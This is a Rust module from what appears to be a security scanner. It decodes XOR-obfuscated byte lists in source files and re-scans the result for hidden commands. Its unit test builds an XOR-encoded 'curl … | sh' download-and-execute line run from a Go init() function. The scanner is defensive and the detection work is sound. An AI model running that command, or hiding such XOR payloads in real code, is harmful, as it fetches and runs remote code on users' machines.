//! Round 23: bytes hidden by XOR with a literal key, in every language.
//! A decoder row of the shared deobfuscation layer ([`super::deobf`]):
//! a file that XORs with a key it spells out — one byte (`c ^ 0x5a`,
//! `b ^ 90`, `c ^ KEY` with `KEY = 0x5a`) or a repeating key (`b ^
//! key[i % len(key)]`, `c ^ k.charCodeAt(i % k.length)` with `key =
//! "k3y"`) — and holds byte lists (`[]byte{0x29, …}`, `[0x29, …]`,
//! `bytes([41, …])`, `"\x29\x32…"`) has each list decoded with each key;
//! a list that decodes to code or a command is read again in its probable
//! language, like a decoded base64 literal (`Origin::Decoded`, findings
//! tagged `Encoded`). The loop shape does not matter (`for i, c := range`,
//! a comprehension, `.map(c => c ^ k)`, `each_byte`, `unpack`): the
//! operator and the key are the evidence, the decoded text is the proof.
//!
//! Bounds: at most `XOR_MAX_KEYS` keys and `XOR_MAX_LISTS` lists per
//! file; past either the file is marked incomplete. Each decode is linear
//! in its list.

use super::{Lang, Sink, Src};
use crate::evidence::{Origin, Tag};
use crate::limits::{XOR_MAX_KEYS, XOR_MAX_LISTS};

/// `^ 0x5a`, `^ 90`, `^= 0x5a`, `^ KEY`, `^ key[…]`, `^ ord(key[…])`,
/// `^ k.charCodeAt(…)`, `^ key.bytes[…]`: capture 1 a number, capture 2
/// a name (a single-byte key or the start of a repeating one).
static XOR_OP: crate::rx::Lazy = crate::rx::Lazy::new(
    r"\^=?\s*\(?\s*(?:(0x[0-9a-fA-F]{1,2}|\d{1,3})\b|(?:ord\(\s*|int\(\s*)?([A-Za-z_$][\w$]*))",
);
/// A list of eight or more byte values.
static BYTE_LIST: crate::rx::Lazy = crate::rx::Lazy::new(
    r"[\[{(]\s*((?:0x[0-9a-fA-F]{1,2}|\d{1,3})(?:\s*,\s*(?:0x[0-9a-fA-F]{1,2}|\d{1,3})){7,})\s*,?\s*[\]})]",
);
/// A run of eight or more `\xNN` escapes in a literal.
static HEX_ESC: crate::rx::Lazy = crate::rx::Lazy::new(r"(?:\\x[0-9a-fA-F]{2}){8,}");

fn number(s: &str) -> Option<u8> {
    match s.strip_prefix("0x").or_else(|| s.strip_prefix("0X")) {
        Some(h) => u8::from_str_radix(h, 16).ok(),
        None => s.parse::<u16>().ok().and_then(|n| u8::try_from(n).ok()),
    }
}

/// A literal assigned to a name: a string (repeating key) or a number
/// (one-byte key). `KEY = 0x5a`, `const k = "s3"`, `key :=
/// []byte("s3")`, `my $k = 'x'`, `KEY = b"s3"`.
static ASSIGN_LIT: crate::rx::Lazy = crate::rx::Lazy::new(
    r#"(?m)(?:^|[\s;(,])\$?([A-Za-z_][\w$]*)\s*(?::=|=)\s*(?:\[\]byte\(\s*)?(?:b?["']([^"'\n]{1,64})["']|(0x[0-9a-fA-F]{1,2}|\d{1,3})\b)"#,
);

/// Every name the file assigns a literal to, first assignment kept: one
/// pass, so looking keys up stays linear whatever the file holds.
fn assigned(text: &str) -> crate::fxhash::FxHashMap<&str, Vec<u8>> {
    let mut out = crate::fxhash::FxHashMap::default();
    for c in ASSIGN_LIT.captures_iter(text) {
        let Some(name) = c.get(1) else { continue };
        let v = match (c.get(2), c.get(3)) {
            (Some(s), _) => Some(s.as_str().as_bytes().to_vec()),
            (_, Some(n)) => number(n.as_str()).map(|b| vec![b]),
            _ => None,
        };
        if let Some(v) = v {
            out.entry(name.as_str()).or_insert(v);
        }
    }
    out
}

/// The keys the file XORs with, first seen first, at most
/// `XOR_MAX_KEYS`.
fn keys(text: &str) -> Vec<Vec<u8>> {
    let vals = assigned(text);
    let mut out: Vec<Vec<u8>> = Vec::new();
    for c in XOR_OP.captures_iter(text) {
        let key = match (c.get(1), c.get(2)) {
            (Some(n), _) => number(n.as_str()).map(|b| vec![b]),
            (_, Some(name)) => vals.get(name.as_str()).cloned(),
            _ => None,
        };
        let Some(key) = key.filter(|k| !k.is_empty() && k.iter().any(|&b| b != 0)) else {
            continue;
        };
        if out.contains(&key) {
            continue;
        }
        if out.len() == XOR_MAX_KEYS {
            crate::limits::gave_up("XOR_MAX_KEYS");
            break;
        }
        out.push(key);
    }
    out
}

/// The byte lists of the file with their spans.
fn lists(text: &str) -> Vec<(usize, usize, Vec<u8>)> {
    let mut out = Vec::new();
    let lists = BYTE_LIST.captures_iter(text).filter_map(|c| {
        let m = c.get(1)?;
        let bytes: Option<Vec<u8>> = m.as_str().split(',').map(|x| number(x.trim())).collect();
        Some((m.start(), m.end(), bytes?))
    });
    let escapes = HEX_ESC.find_iter(text).filter_map(|m| {
        let bytes: Option<Vec<u8>> = m
            .as_str()
            .split("\\x")
            .filter(|x| !x.is_empty())
            .map(|x| u8::from_str_radix(x, 16).ok())
            .collect();
        Some((m.start(), m.end(), bytes?))
    });
    for item in lists.chain(escapes) {
        if out.len() == XOR_MAX_LISTS {
            crate::limits::gave_up("XOR_MAX_LISTS");
            break;
        }
        out.push(item);
    }
    out
}

/// `data` XORed with the repeating `key`.
pub fn decode(data: &[u8], key: &[u8]) -> Vec<u8> {
    data.iter()
        .zip(key.iter().cycle())
        .map(|(b, k)| b ^ k)
        .collect()
}

/// Decodes the file's byte lists with the keys it XORs with and reads what
/// decodes to code again; see the module docs.
pub fn scan(src: &Src, sink: &mut Sink) {
    let text = src.text;
    if !text.contains('^') || super::past_nest_limit(src, sink) {
        return;
    }
    let lists = lists(text);
    if lists.is_empty() {
        return;
    }
    let keys = keys(text);
    for (s, e, bytes) in lists {
        for key in &keys {
            let Some(decoded) = super::deobf::printable(&decode(&bytes, key)) else {
                continue;
            };
            if decoded.trim().len() < 8
                || decoded.chars().filter(|c| c.is_alphanumeric()).count() * 2 < decoded.len()
            {
                continue;
            }
            // A payload hidden this way is most often a command line
            // (`sh -c '…'`, `curl … | sh`): read as shell unless it sniffs
            // as another language.
            let lang = Lang::sniff(&decoded).unwrap_or(Lang::Shell);
            let sub = src.derived(&decoded, s, e, Origin::Decoded);
            let before = sink.items.len();
            super::extract_code(lang, &sub, sink);
            if sink.items.len() == before {
                continue;
            }
            for item in &mut sink.items[before..] {
                item.tags.insert(Tag::Encoded);
            }
            let ev = super::deobf::decoded_step(
                &decoded,
                "XOR-encoded payload decoded by skillscan",
                "xor",
            )
            .tag(Tag::Obfuscated);
            sink.push(src.at(ev, s, e, "encoded"));
            break;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::evidence::Op;

    fn enc(s: &str, key: &[u8]) -> String {
        decode(s.as_bytes(), key)
            .iter()
            .map(|b| format!("0x{b:02x}"))
            .collect::<Vec<_>>()
            .join(", ")
    }

    #[test]
    fn keys_in_every_spelling() {
        assert_eq!(keys("b[i] = c ^ 0x5a"), vec![vec![0x5a]]);
        assert_eq!(keys("x = bytes(b ^ 90 for b in d)"), vec![vec![90]]);
        assert_eq!(keys("K = 0x21\ny = c ^ K"), vec![vec![0x21]]);
        assert_eq!(
            keys("key = b\"s3\"\nout = bytes(b ^ key[i % len(key)] for i, b in enumerate(d))"),
            vec![b"s3".to_vec()]
        );
        assert!(keys("flags = a ^ b").is_empty());
    }

    #[test]
    fn a_list_decoded_with_a_one_byte_key() {
        let list = enc("curl -s http://203.0.113.7/x | sh &", &[0x5a]);
        let text = format!(
            "var p = []byte{{{list}}}\nfunc init() {{ for i, c := range p {{ b[i] = c ^ 0x5a }} }}\n"
        );
        let ev = crate::extract::scan_text(scan, "x.go", &text);
        assert!(
            ev.iter()
                .any(|e| e.op == Op::DownloadExec && e.has(Tag::Encoded)),
            "{ev:#?}"
        );
    }
}
